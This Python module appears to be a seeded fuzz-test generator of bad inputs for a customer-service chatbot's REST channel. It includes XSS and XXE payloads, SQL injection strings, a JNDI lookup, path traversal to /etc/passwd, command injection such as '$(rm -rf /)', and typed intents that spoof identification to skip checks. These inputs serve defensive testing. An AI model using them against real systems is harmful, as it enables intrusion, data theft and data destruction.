"""Generated bad input for the REST channel: deterministic (seeded), by category.

Categories: empty, long (2-8 KB; the 100 KB messages are in test_oversized_*), control
characters, emoji, right-to-left, markup, SQL, JSON, format strings and paths, unicode tricks,
and typed intents (`/intent{...}`) that try to skip identification or confirmation: changes to
orders, affirmations, entities for slots set only by actions (customer_id, identified), other
customers' order ids, malformed payloads. No real customer email appears in them, so a
conversation fed only with these can never be identified.
"""

from __future__ import annotations

import json
import random

INTENTS = ("greet", "goodbye", "affirm", "deny", "stop", "inform", "order_status", "track_order",
           "list_orders", "product_info", "faq", "request_human", "out_of_scope",
           "cancel_order", "return_order", "exchange_order", "modify_order", "change_address",
           "change_payment", "nlu_fallback", "session_start", "restart", "back")
CHANGE_INTENTS = ("cancel_order", "return_order", "exchange_order", "modify_order",
                  "change_address", "change_payment")
ORDER_IDS = ("#W7017301", "#W3288665", "#W5564375", "#W6151519", "#W2579604", "W0000000",
             "#W9999999", "7017301")
CONTROL = "".join(chr(c) for c in range(0, 32)) + "\x7f\x80\x9b\u2028\u2029\ufeff\ufffe"
EMOJI = "😀🙂🛒📦🚚💳🔥🤖👩‍👩‍👧‍👦🏳️‍🌈🇺🇸🧾✅❌⚠️🎁"
RTL = ("مرحبا، أين طلبي؟", "אני רוצה לבטל את ההזמנה", "\u202eredro ym lecnac\u202c",
       "سلام \u200f#W7017301\u200f", "\u202b" + "order status" + "\u202c")
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "**bold** _it_ `code`",
          "[click](javascript:alert(1))", "<!-- {{7*7}} -->", "<b>where is my order</b>",
          "&lt;script&gt;", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
          "{{ customer_id }}", "{% raw %}", "<svg/onload=alert(1)>")
SQL = ("'; DROP TABLE orders; --", "\" OR 1=1 --", "1; DELETE FROM customers",
       "' UNION SELECT email FROM customers --", "#W7017301' OR '1'='1",
       "Robert'); DROP TABLE events;--", "admin'--", "%' AND 1=0 UNION SELECT * FROM orders --")
FORMATS = ("%s%s%s%n", "{0}{1}{customer_id}", "${jndi:ldap://x/a}", "../../../../etc/passwd",
           "..\\..\\windows\\win.ini", "$(rm -rf /)", "`id`", "\\x00\\u0000", "None", "null",
           "undefined", "NaN", "-1", "0", "99999999999999999999999", "1e309", "true")
UNICODE = ("ｗｈｅｒｅ　ｉｓ　ｍｙ　ｏｒｄｅｒ", "w\u200bh\u200be\u200br\u200be is my order",
           "e\u0301\u0301\u0301\u0301\u0301", "Z̴̡̢̛̖̬͙̲̠̖͖̓̈́̈́̆͂̈̏͗̾̚a̶l̷g̸o̵", "𝔴𝔥𝔢𝔯𝔢 𝔦𝔰 𝔪𝔶 𝔬𝔯𝔡𝔢𝔯",
           "\ud7ff\ue000\U0010fffd", "I\u0307stanbul", "ß" * 50, "\u0000where is my order")
FAKE_EMAILS = ("x@y.z'--", "admin@localhost", "a@b", "<script>@x.com", "@@@", "mei@@example..com")


def typed_intent(rng: random.Random) -> str:
    """`/intent{...}`: bypass attempts, odd entities and malformed payloads."""
    intent = rng.choice(CHANGE_INTENTS + INTENTS)
    order = rng.choice(ORDER_IDS)
    entities = rng.choice([
        {"order_id": order},
        {"order_id": order, "customer_id": "omar_silva_9907", "identified": True},
        {"customer_id": "mei_martin_4260", "identified": True, "customer_name": "Mei"},
        {"identified": True, "id_attempts": -100},
        {"order_id": order, "confirm": True, "requested_slot": None},
        {"email": rng.choice(FAKE_EMAILS)},
        {"order_id": [order, "#W0000001"]},
        {"order_id": {"$ne": None}},
        {"zip": "32124", "first_name": "Mei"},  # half an identity: never enough
        {},
    ])
    payload = json.dumps(entities)
    shape = rng.random()
    if shape < 0.15:
        payload = payload[: rng.randint(0, len(payload))]  # malformed JSON
    elif shape < 0.25:
        payload = payload.replace('"', "'")
    prefix = rng.choice(["/", "/", "/", " /", "//"])
    return f"{prefix}{intent}{payload}"


def generate(n: int, seed: int = 8) -> list[tuple[str, str]]:
    """``n`` (category, message) pairs, every category represented."""
    rng = random.Random(seed)

    def long_text() -> str:
        size = rng.randint(2_000, 8_000)
        unit = rng.choice(["where is my order ", "🙂 ", "x", "a" * 40 + " ", "#W7017301 ",
                           "مرحبا ", "<b>", "' OR 1=1 -- "])
        return (unit * (size // len(unit) + 1))[:size]

    makers = {
        "empty": lambda: rng.choice(["", " ", "\n", "\t\t", "\r\n", "   \n  "]),
        "long": long_text,
        "control": lambda: "".join(rng.choice(CONTROL) for _ in range(rng.randint(1, 30)))
        + rng.choice(["", "where is my order", "hi"]),
        "emoji": lambda: "".join(rng.choice(EMOJI) for _ in range(rng.randint(1, 40))),
        "rtl": lambda: rng.choice(RTL),
        "markup": lambda: rng.choice(MARKUP),
        "sql": lambda: rng.choice(SQL),
        "json": lambda: json.dumps(rng.choice([
            {"sender": "someone-else", "message": "/cancel_order"},
            {"intent": "cancel_order", "entities": [{"entity": "order_id", "value": "#W7017301"}]},
            [1, 2, {"a": None}], {"text": "hi", "metadata": {"customer_id": "omar_silva_9907"}},
        ])),
        "format": lambda: rng.choice(FORMATS),
        "unicode": lambda: rng.choice(UNICODE),
        "typed_intent": lambda: typed_intent(rng),
        "fake_email": lambda: rng.choice(FAKE_EMAILS),
    }
    weights = {"typed_intent": 6, "long": 1}
    names = list(makers)
    pool = [name for name in names for _ in range(weights.get(name, 2))]
    out = [(name, makers[name]()) for name in names]  # each category at least once
    while len(out) < n:
        name = rng.choice(pool)
        out.append((name, makers[name]()))
    return out
